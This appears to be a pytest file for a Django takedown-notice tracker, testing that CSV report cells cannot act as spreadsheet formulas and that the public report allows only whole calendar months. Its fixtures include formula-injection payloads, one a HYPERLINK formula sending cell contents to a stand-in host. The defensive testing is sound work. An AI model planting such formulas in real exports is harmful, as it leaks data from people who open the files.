"""The accountability report cannot be turned against its readers or the victims it counts: CSV cells never
evaluate as spreadsheet formulas, and the public report offers fixed calendar months only, so two overlapping
periods cannot be subtracted to single out a day's notices."""

from __future__ import annotations

import csv
import io
import itertools
from datetime import UTC, datetime, timedelta

import pytest
import time_machine
from django.urls import reverse

from takedowns.models import Platform
from takedowns.web.reports import spreadsheet_safe

pytestmark = pytest.mark.django_db
REPORT = reverse("takedowns:report")
PUBLIC = reverse("takedowns:public_report")
MID_JUNE = datetime(2026, 6, 15, 12, 0, tzinfo=UTC)


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Reddit", "Reddit"),
        ("<5", "<5"),
        ("—", "—"),
        ("12.5", "12.5"),
    ],
)
def test_spreadsheet_safe(cell, expected):
    assert spreadsheet_safe(cell) == expected


def test_csv_platform_names_cannot_be_formulas(client, advocate, make_sent):
    hostile = Platform.objects.create(
        slug="formula", name='=HYPERLINK("http://evil.example/?"&A1,"open")', domains=["formula.example"]
    )
    make_sent(hostile, hours_ago=2)
    client.force_login(advocate)
    text = client.get(REPORT + "?days=7&format=csv").content.decode()
    names = [row["Platform"] for row in csv.DictReader(io.StringIO(text))]
    assert "'" + hostile.name in names
    assert not any(name.startswith(("=", "+", "-", "@")) for name in names)


def _sent_on(make_sent, platform, day: datetime) -> None:
    with time_machine.travel(day, tick=False):
        make_sent(platform, hours_ago=0)


def _reddit_sent(client, query: str) -> str:
    rows = {r["Platform"]: r for r in csv.DictReader(io.StringIO(client.get(PUBLIC + query).content.decode()))}
    return rows["Reddit"]["Notices sent"] if "Reddit" in rows else "0"


def test_public_report_offers_calendar_months_only(client, settings, platforms, make_sent):
    settings.PUBLIC_ACCOUNTABILITY_REPORT = True
    for day in range(2, 8):  # six notices early in June, one on the 10th, five in May
        _sent_on(make_sent, platforms["reddit"], datetime(2026, 6, day, 9, tzinfo=UTC))
    _sent_on(make_sent, platforms["reddit"], datetime(2026, 6, 10, 9, tzinfo=UTC))
    for day in range(3, 8):
        _sent_on(make_sent, platforms["reddit"], datetime(2026, 5, day, 9, tzinfo=UTC))
    with time_machine.travel(MID_JUNE, tick=False):
        whole_month = _reddit_sent(client, "?format=csv")
        assert whole_month == "7"
        # A day range, a rolling window or an overlapping range is not a public period: the answer is the month.
        for query in ("?start=2026-06-02&end=2026-06-09", "?days=7", "?start=2026-06-10&end=2026-06-10"):
            assert _reddit_sent(client, query + "&format=csv") == whole_month, query
        assert _reddit_sent(client, "?month=2026-05&format=csv") == "5"
        assert _reddit_sent(client, "?month=1999-01&format=csv") == whole_month  # not offered: the current one
        html = client.get(PUBLIC).content.decode()
        assert 'name="month"' in html and 'name="start"' not in html and 'name="days"' not in html
        assert "2026-06-01 00:00" in html


def test_public_months_never_overlap():
    from takedowns.forms.report import PublicReportPeriodForm

    form = PublicReportPeriodForm({}, now=MID_JUNE + timedelta(days=200))
    periods = []
    for value, _label in form.fields["month"].choices:
        chosen = PublicReportPeriodForm({"month": value}, now=form.now)
        periods.append(chosen.period())
    periods.sort()
    assert all(a_end <= b_start for (_a, a_end), (b_start, _b) in itertools.pairwise(periods))
    assert all(start.day == 1 and start.hour == 0 for start, _end in periods)
